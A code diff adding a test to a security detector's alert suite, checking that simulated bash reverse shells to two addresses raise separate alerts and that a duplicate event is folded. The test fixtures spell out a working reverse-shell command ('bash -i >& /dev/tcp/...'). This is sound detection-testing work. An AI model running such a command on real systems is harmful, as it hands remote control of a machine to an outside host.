@@ -9,6 +9,7 @@ import { exampleEvent, type EventAction } from '../../src/common/events/schema.j
 import { HadesError } from '../../src/common/errors.js';
 import { loadRules } from '../../src/rules/index.js';
 import { Logger } from '../../src/runtime/log.js';
+import { readDefaultPack } from '../../src/runtime/rule-pack.js';
 import { dedupKey, Detector, type RuleSource } from '../../src/server/alerts/detector.js';
 import { ruleSource } from '../../src/server/alerts/rule-source.js';
 import { AlertStore, MAX_ALERT_COMMENTS } from '../../src/server/alerts/store.js';
@@ -147,6 +148,38 @@ describe('alerts: detection', () => {
       // Nothing matched: settled at once, counted all the same.
       await detector.raiseSoon('agent-1', [], Date.now(), { evaluated: 5, errors: [] });
       assert.equal(detector.stats().events, 7);
+    } finally {
+      detector.close();
+    }
+  });
+
+  it('raises one alert per reverse shell of the default pack, not one per command line (two C2s, one open alert)', async () => {
+    const files = await readDefaultPack();
+    const { detector, published, ingest, setRules } = setup();
+    setRules({ files });
+    await detector.start();
+    try {
+      // `bash -i >& /dev/tcp/HOST/PORT 0>&1` twice, to two addresses: the same executable and command line.
+      const reverseShell = (time: number, pid: number, ip: string, port: number) =>
+        ev('exec', time, (e) => {
+          e.process.name = 'bash';
+          e.process.executable = '/usr/bin/bash';
+          e.process.args = ['bash', '-i'];
+          e.process.command_line = 'bash -i';
+          e.process.pid = pid;
+          e.process.entity_id = `host-${pid}-1`;
+          e.process.parent = { pid: pid - 1, name: 'bash', executable: '/usr/bin/bash', args: ['bash', '-c', `bash -i >& /dev/tcp/${ip}/${port} 0>&1`] };
+          const socket = { family: 'ipv4', transport: 'tcp', local_ip: '10.0.0.5', local_port: 40000 + pid, remote_ip: ip, remote_port: port };
+          e.hades.process = { ...e.hades.process, stdio: { stdin: { type: 'socket', socket }, stdout: { type: 'socket', socket }, stderr: { type: 'socket', socket } } };
+        });
+      ingest([reverseShell(T0, 100, '203.0.113.7', 4444)]);
+      ingest([reverseShell(T0 + 60_000, 200, '198.51.100.9', 443)]);
+      const shells = published.filter((a) => a.rule.id === 'reverse_shell_socket_stdio');
+      assert.equal(shells.length, 2, 'the second reverse shell is an alert of its own');
+      assert.match(shells[1]!.message, /198\.51\.100\.9:443/);
+      // The same shell seen again (an event delivered twice) still folds.
+      ingest([reverseShell(T0 + 61_000, 200, '198.51.100.9', 443)]);
+      assert.equal(published.filter((a) => a.rule.id === 'reverse_shell_socket_stdio').length, 2);
     } finally {
       detector.close();
     }
